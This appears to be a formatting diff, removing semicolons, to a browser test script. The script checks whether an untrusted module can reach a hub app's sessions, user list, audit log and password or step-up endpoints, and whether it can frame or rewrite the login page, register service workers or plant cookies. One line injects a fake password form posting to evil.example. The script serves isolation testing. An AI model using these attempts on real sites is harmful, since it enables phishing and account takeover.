@@ -1,12 +1,12 @@
 // Each attempt is true when it got what it wanted. `step-up` ones must fail from every module, the others from one that
 // nobody vouches for. Nothing here knows the owner's password.
-const json = { "Content-Type": "application/json" };
-let csrf = "";
-let people = [];
+const json = { "Content-Type": "application/json" }
+let csrf = ""
+let people = []
 
 async function read(path, wanted) {
-  const answer = await fetch(path, { credentials: "include", headers: { Accept: "application/json, text/html" } });
-  return answer.ok && (await answer.text()).includes(wanted);
+  const answer = await fetch(path, { credentials: "include", headers: { Accept: "application/json, text/html" } })
+  return answer.ok && (await answer.text()).includes(wanted)
 }
 
 async function act(method, path, body = {}, more = {}) {
@@ -15,63 +15,63 @@ async function act(method, path, body = {}, more = {}) {
     credentials: "include",
     headers: { ...json, "X-Parachute-CSRF": csrf, ...more },
     body: JSON.stringify({ __csrf: csrf, ...body }),
-  });
-  return answer.ok;
+  })
+  return answer.ok
 }
 
 function other() {
-  return people.find((person) => person.role === "member")?.id ?? "unknown";
+  return people.find((person) => person.role === "member")?.id ?? "unknown"
 }
 
 function frame(path) {
   return new Promise((done) => {
-    const element = document.createElement("iframe");
-    element.src = path;
+    const element = document.createElement("iframe")
+    element.src = path
     element.onload = () => {
       try {
-        done(element.contentDocument.querySelector("form") !== null);
+        done(element.contentDocument.querySelector("form") !== null)
       } catch {
-        done(false);
+        done(false)
       }
-    };
-    element.onerror = () => done(false);
-    document.body.append(element);
-    setTimeout(() => done(false), 1500);
-  });
+    }
+    element.onerror = () => done(false)
+    document.body.append(element)
+    setTimeout(() => done(false), 1500)
+  })
 }
 
 function popup(path, then) {
-  const opened = window.open(path, "_blank", "width=300,height=300");
+  const opened = window.open(path, "_blank", "width=300,height=300")
   return new Promise((done) => {
     setTimeout(() => {
       try {
-        done(opened !== null && then(opened));
+        done(opened !== null && then(opened))
       } catch {
-        done(false);
+        done(false)
       }
-    }, 1500);
-  });
+    }, 1500)
+  })
 }
 
 async function worker(script, scope) {
-  const registration = await navigator.serviceWorker.register(script, { scope });
-  await registration.unregister();
-  return true;
+  const registration = await navigator.serviceWorker.register(script, { scope })
+  await registration.unregister()
+  return true
 }
 
 const attempts = {
   "read: who is signed in": async () => {
-    const answer = await (await fetch("/api/me", { credentials: "include" })).json();
-    csrf = answer.csrf ?? "";
-    return answer.hasSession;
+    const answer = await (await fetch("/api/me", { credentials: "include" })).json()
+    csrf = answer.csrf ?? ""
+    return answer.hasSession
   },
   "read: the session document": () => read("/account/session", '"signed_in": true'),
   "read: the account page": () => read("/account", "Signed in as"),
   "read: the second factor page": () => read("/account/2fa", "factor"),
   "read: the people": async () => {
-    const answer = await (await fetch("/api/users", { credentials: "include" })).json();
-    people = answer.users ?? [];
-    return people.length > 0;
+    const answer = await (await fetch("/api/users", { credentials: "include" })).json()
+    people = answer.users ?? []
+    return people.length > 0
   },
   "read: the audit": () => read("/api/audit", "sign-in"),
   "read: the modules": () => read("/api/modules", "supervised"),
@@ -98,39 +98,41 @@ const attempts = {
   "step-up: change the password": () =>
     act("POST", "/api/account/password", { new_password: "mallory was here first" }),
   "step-up: guess a proof": () => act("POST", "/api/invites", {}, { "X-Parachute-Proof": "guessed" }),
-  "step-up: ask for a proof without a password": () => act("POST", "/api/account/step-up", { operation: "user.invite" }),
+  "step-up: ask for a proof without a password": () =>
+    act("POST", "/api/account/step-up", { operation: "user.invite" }),
   "page: frame the sign-in": () => frame("/login"),
   "page: frame the account": () => frame("/account"),
-  "page: read a popped-up account": () => popup("/account", (opened) => opened.document.body.innerText.includes("Signed")),
+  "page: read a popped-up account": () =>
+    popup("/account", (opened) => opened.document.body.innerText.includes("Signed")),
   "page: rewrite a popped-up sign-in": () =>
     popup("/login", (opened) => {
-      opened.document.body.innerHTML = '<form action="https://evil.example">Password</form>';
-      return opened.document.querySelector("form") !== null && opened.location.pathname === "/login";
+      opened.document.body.innerHTML = '<form action="https://evil.example">Password</form>'
+      return opened.document.querySelector("form") !== null && opened.location.pathname === "/login"
     }),
   "page: a worker at the root": () => worker("./worker.js", "/"),
   "page: a worker at the sign-in": () => worker("./worker.js", "/login"),
   "page: a hub page as a worker": () => worker("/static/hub/setup.js", "/"),
   "cookie: read ours": async () => document.cookie.includes("parachute_hub"),
-};
+}
 
 async function run() {
-  const results = {};
+  const results = {}
   for (const [name, attempt] of Object.entries(attempts)) {
     try {
-      results[name] = (await attempt()) === true;
+      results[name] = (await attempt()) === true
     } catch {
-      results[name] = false;
+      results[name] = false
     }
   }
   // A planted cookie is tried last: it may at most make the hub see nobody.
   try {
     for (const name of ["parachute_hub_session", "parachute_hub_csrf"]) {
-      document.cookie = `${name}=planted-by-a-page-000000000000000000000000; path=/account`;
+      document.cookie = `${name}=planted-by-a-page-000000000000000000000000; path=/account`
     }
   } catch {
     // A sandboxed page has no cookies to set.
   }
-  document.querySelector("p").dataset.results = JSON.stringify(results);
+  document.querySelector("p").dataset.results = JSON.stringify(results)
 }
 
-run();
+run()
